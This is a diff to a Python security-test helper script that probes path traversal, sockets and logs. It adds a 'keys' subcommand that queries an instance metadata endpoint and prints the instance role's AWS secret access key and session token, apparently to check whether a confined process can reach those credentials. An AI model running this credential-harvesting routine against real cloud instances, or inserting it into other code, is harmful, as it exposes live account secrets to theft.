@@ -1,12 +1,14 @@
 # SPDX-License-Identifier: Apache-2.0
 # For security.test: strings that must never become a path, and commands that carry them everywhere.
 # security.py step-names FOLDER | fields SOCKET FOLDER | ids SOCKET FOLDER INSTANCE | scan LOG | connect SOCKET UID TEXT
+# | keys ENDPOINT
 import itertools
 import json
 import os
 import re
 import socket
 import sys
+import urllib.request
 
 MARK = "ssmCANARY"
 
@@ -119,10 +121,24 @@ def connect(path, uid, text):
     print("answered" if answer else "refused")
 
 
+def keys(endpoint):
+    """Secret and session token of the instance profile's role."""
+    def ask(path, method="GET", **headers):
+        request = urllib.request.Request(endpoint + "/latest/" + path, method=method, headers=headers)
+        with urllib.request.urlopen(request) as answer:
+            return answer.read().decode()
+
+    token = {"x-aws-ec2-metadata-token":
+             ask("api/token", "PUT", **{"x-aws-ec2-metadata-token-ttl-seconds": "60"})}
+    where = "meta-data/iam/security-credentials/"
+    found = json.loads(ask(where + ask(where, **token), **token))
+    print(found["SecretAccessKey"], found["Token"])
+
+
 what, args = sys.argv[1], sys.argv[2:]
 if what == "step-names":
     print(json.dumps(document(*[step(name) for name in traversals(args[0])])))
 elif what == "count":
     print(len(traversals("/x")))
 else:
-    {"fields": fields, "ids": ids, "scan": scan, "connect": connect}[what](*args)
+    {"fields": fields, "ids": ids, "scan": scan, "connect": connect, "keys": keys}[what](*args)
